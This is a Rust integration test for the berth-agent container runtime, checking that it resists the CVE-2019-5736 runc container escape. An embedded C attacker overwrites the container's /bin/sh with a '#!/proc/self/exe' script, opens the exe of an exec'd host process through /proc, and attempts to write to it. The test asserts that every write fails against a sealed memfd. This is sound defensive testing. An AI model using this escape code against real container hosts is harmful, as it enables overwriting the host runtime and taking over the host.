//! CVE-2019-5736 through the real agent binary (`berth-agent run`): a
//! container replaces its /bin/sh with a `#!/proc/self/exe` script, so an
//! exec of `sh` into it runs the program the exec'd process was cloned
//! from: the agent. The container's init (a static C program) watches its
//! pid namespace, opens `/proc/<pid>/exe` of that process and tries to
//! write through it, while the agent runs and again after the agent has
//! been killed (the moment runc's exploit waits for).
//!
//! What must hold: the file the container reaches is the agent's sealed
//! memfd (all four seals, not the berth-agent file on the host: another
//! device and inode), every write fails, and the berth-agent file's bytes
//! are unchanged. The agent binary the test runs is a copy, so a
//! regression damages only the copy. Monitors run from the agent's own
//! sealed copy (same inode), so they cost no memfd of their own.
//!
//! Needs root and a C compiler that links statically (`cc -static`).

mod common;

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use common::{BinAgent, TestAgent, is_root, skip};
use serde_json::json;
use sha2::Digest;

/// The container's init: makes /bin/sh a `#!/proc/self/exe` script, then
/// waits for another process in its pid namespace, opens its exe and
/// tries to write to it. Reports to OUT/log, one line per fact.
const ATTACK_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static FILE *out;

static void attempt(int fd, const char *phase) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int w = open(p, O_WRONLY);
    int ew = w < 0 ? errno : 0;
    int rw = open(p, O_RDWR);
    int erw = rw < 0 ? errno : 0;
    int wfd = w >= 0 ? w : rw;
    int ewrite = -1; /* no write attempted: no fd to write with */
    if (wfd >= 0) {
        ewrite = pwrite(wfd, "PWNED", 5, 0) == 5 ? 0 : errno;
    }
    fprintf(out, "%s open_wronly=%d open_rdwr=%d write=%d\n", phase, ew, erw, ewrite);
    fflush(out);
}

int main(int argc, char **argv) {
    char path[4096];
    snprintf(path, sizeof path, "%s/log", argv[1]);
    out = fopen(path, "a");
    if (!out) return 1;
    unlink("/bin/sh");
    int s = open("/bin/sh", O_CREAT | O_WRONLY | O_TRUNC, 0755);
    if (s < 0 || write(s, "#!/proc/self/exe\n", 17) != 17) {
        fprintf(out, "error replace /bin/sh: %d\n", errno);
        return 1;
    }
    close(s);
    fprintf(out, "ready\n");
    fflush(out);
    int fd = -1;
    long eacces = 0, tries = 0;
    char pid_seen[32] = "";
    time_t end = time(NULL) + 120;
    while (fd < 0 && time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            tries++;
            fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                snprintf(pid_seen, sizeof pid_seen, "%s", e->d_name);
                break;
            }
            if (errno == EACCES || errno == EPERM) eacces++;
        }
        if (d) closedir(d);
    }
    if (fd < 0) {
        fprintf(out, "nothing opened tries=%ld refused=%ld\n", tries, eacces);
        fflush(out);
        pause();
        return 0;
    }
    char link[4096] = "";
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n > 0) link[n] = 0;
    struct stat st;
    fstat(fd, &st);
    int seals = fcntl(fd, F_GET_SEALS);
    fprintf(out, "opened pid=%s dev=%llu ino=%llu seals=%d refused_before=%ld link=%s\n", pid_seen,
            (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, seals, eacces, link);
    fflush(out);
    attempt(fd, "live");
    /* The test kills the agent, then says go. */
    snprintf(path, sizeof path, "%s/go", argv[1]);
    while (access(path, F_OK) != 0) usleep(20000);
    attempt(fd, "after");
    fprintf(out, "done\n");
    fflush(out);
    pause();
    return 0;
}
"##;

fn sha256(p: &Path) -> Result<String> {
    Ok(hex::encode(sha2::Sha256::digest(std::fs::read(p)?)))
}

fn dev_ino(p: &Path) -> Result<(u64, u64)> {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(p)?;
    Ok((m.dev(), m.ino()))
}

fn field<'a>(line: &'a str, key: &str) -> Option<&'a str> {
    line.split(' ')
        .find_map(|w| w.strip_prefix(key)?.strip_prefix('='))
}

async fn wait_line(log: &Path, prefix: &str, secs: u64) -> Result<String> {
    let deadline = Instant::now() + Duration::from_secs(secs);
    loop {
        let text = std::fs::read_to_string(log).unwrap_or_default();
        if let Some(l) = text.lines().find(|l| l.starts_with(prefix)) {
            return Ok(l.to_string());
        }
        if Instant::now() > deadline {
            bail!("no {prefix:?} line from the container; its log: {text:?}");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// One exec of `sh` (now the `#!/proc/self/exe` script) through `agent`.
async fn exec_sh(agent: &BinAgent, like: &TestAgent, container: &str) -> Result<()> {
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let addr = agent.url.trim_start_matches("https://").to_string();
    let tcp = tokio::net::TcpStream::connect(&addr).await?;
    let fp = berth_agent::tls::load_or_create(&like.config.paths().tls_dir(), &[])?
        .fingerprint()
        .to_string();
    let cfg = berth_agent::tls::PinnedCert::new(&fp).client_config()?;
    let tls = tokio_rustls::TlsConnector::from(std::sync::Arc::new(cfg))
        .connect("localhost".try_into()?, tcp)
        .await?;
    let mut req = format!("wss://{addr}/v1/containers/{container}/exec?cmd=/bin/sh&tty=false")
        .into_client_request()?;
    req.headers_mut().insert(
        "authorization",
        format!("Bearer {}", like.key.token()).parse()?,
    );
    let (mut ws, _) = tokio_tungstenite::client_async(req, tls).await?;
    let (out, exit) = common::exec_output(&mut ws).await?;
    eprintln!("exec sh: exit {exit:?}: {out:?}");
    Ok(())
}

/// The pid of the process in `status` after `key`, in kB.
fn status_kb(pid: u32, key: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix(key))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_container_cannot_overwrite_the_agent_binary() -> Result<()> {
    if !is_root() {
        skip("needs root (namespaces, cgroups, overlayfs)");
        return Ok(());
    }
    let work = tempfile::Builder::new()
        .prefix("berth-sealed-exe-")
        .tempdir()?;
    let shared = work.path().join("x");
    std::fs::create_dir(&shared)?;
    if !common::cc_static(ATTACK_C, &shared.join("attack"))? {
        skip("no C compiler (cc) to build the static attacker");
        return Ok(());
    }
    // The agent is a dynamic executable: like any real image, the
    // attacker's brings the loader and libraries it needs (copied into
    // the container's / before the attack).
    let root = shared.join("root");
    let ldd = std::process::Command::new("ldd")
        .arg(env!("CARGO_BIN_EXE_berth-agent"))
        .output()?;
    for lib in String::from_utf8_lossy(&ldd.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let to = root.join(lib.trim_start_matches('/'));
        std::fs::create_dir_all(to.parent().context("lib dir")?)?;
        std::fs::copy(lib, &to)?;
    }
    // The agent under attack is a copy: a regression damages only it.
    let bin: PathBuf = work.path().join("berth-agent");
    std::fs::copy(env!("CARGO_BIN_EXE_berth-agent"), &bin)?;
    let sha_before = sha256(&bin)?;
    let host_file = dev_ino(&bin)?;

    let mut setup = TestAgent::start("sealed").await?;
    setup.import_busybox().await?;
    setup.stop_serving().await;
    let mut agent = BinAgent::spawn_binary(&setup, &bin).await?;
    let key = setup.key.clone();

    let r = agent
        .client
        .post(format!("{}/v1/containers?start=true", agent.url))
        .bearer_auth(key.token())
        .json(
            &json!({"name": "attacker", "image": "busybox", "network": "none",
                      "cmd": ["sh", "-c", "cp -a /x/root/. / && exec /x/attack /x"],
                      "mounts": [{"source": shared.to_str().context("utf-8 path")?,
                                  "target": "/x"}]}),
        )
        .send()
        .await?;
    let status = r.status().as_u16();
    let created: serde_json::Value = r.json().await?;
    assert_eq!(status, 201, "{created}");
    let id = created["id"].as_str().context("no id")?.to_string();
    let log = shared.join("log");
    wait_line(&log, "ready", 20).await?;

    // The agent and its monitor run from one sealed copy: same inode, and
    // not the file on the host.
    let agent_pid = agent.child.id();
    let agent_exe = dev_ino(Path::new(&format!("/proc/{agent_pid}/exe")))?;
    let started: serde_json::Value = serde_json::from_slice(&std::fs::read(
        setup.config.paths().container_dir(&id).join("started.json"),
    )?)?;
    let monitor_pid = u32::try_from(started["monitor_pid"].as_u64().context("monitor pid")?)?;
    let monitor_exe = dev_ino(Path::new(&format!("/proc/{monitor_pid}/exe")))?;
    let agent_link = std::fs::read_link(format!("/proc/{agent_pid}/exe"))?;
    eprintln!(
        "agent exe {agent_link:?} {agent_exe:?}; monitor {monitor_pid} exe {monitor_exe:?}; \
         monitor VmRSS {} kB (RssAnon {} kB, RssFile {} kB, RssShmem {} kB)",
        status_kb(monitor_pid, "VmRSS:"),
        status_kb(monitor_pid, "RssAnon:"),
        status_kb(monitor_pid, "RssFile:"),
        status_kb(monitor_pid, "RssShmem:"),
    );
    // Exec `sh` until the container has caught one of the processes.
    let mut opened = None;
    for _ in 0..30 {
        exec_sh(&agent, &setup, "attacker").await?;
        let text = std::fs::read_to_string(&log)?;
        if let Some(l) = text.lines().find(|l| l.starts_with("opened ")) {
            opened = Some(l.to_string());
            break;
        }
    }
    let opened = opened.context("the container never caught an exec'd process")?;
    eprintln!("container: {opened}");
    let dev: u64 = field(&opened, "dev").context("dev")?.parse()?;
    let ino: u64 = field(&opened, "ino").context("ino")?.parse()?;
    assert_ne!(
        (dev, ino),
        host_file,
        "the container opened the berth-agent file on the host: {opened}"
    );
    assert_eq!(
        (dev, ino),
        agent_exe,
        "the container should reach the agent's sealed copy: {opened}"
    );
    assert_ne!(agent_exe, host_file, "the agent runs from the host file");
    assert!(
        agent_link.to_string_lossy().starts_with("/memfd:"),
        "the agent runs from {agent_link:?}"
    );
    assert_eq!(
        monitor_exe, agent_exe,
        "the monitor should run from the agent's sealed copy"
    );
    let comm = std::fs::read_to_string(format!("/proc/{monitor_pid}/comm"))?;
    assert_eq!(comm.trim(), "berth-agent");
    let cmdline = std::fs::read(format!("/proc/{monitor_pid}/cmdline"))?;
    assert!(
        cmdline.starts_with(b"berth-agent\0monitor\0"),
        "{:?}",
        String::from_utf8_lossy(&cmdline)
    );

    let link = opened.split(" link=").nth(1).unwrap_or("");
    assert!(link.starts_with("/memfd:"), "{opened}");
    // F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE.
    let seals: i64 = field(&opened, "seals").context("seals")?.parse()?;
    assert_eq!(seals & 0xf, 0xf, "{opened}");

    let live = wait_line(&log, "live ", 10).await?;
    // Then the moment the CVE's exploit waits for: the agent is gone.
    agent.kill9();
    std::fs::write(shared.join("go"), "")?;
    let after = wait_line(&log, "after ", 10).await?;
    for l in [&live, &after] {
        eprintln!("container: {l}");
        let write = field(l, "write").context("write")?;
        // -1: no fd opened for writing; 1: EPERM (the seal).
        assert!(write == "-1" || write == "1", "a write went through: {l}");
    }
    assert_eq!(sha256(&bin)?, sha_before, "the agent binary was changed");

    // The container and its monitor go with the setup's cleanup.
    drop(setup);
    Ok(())
}
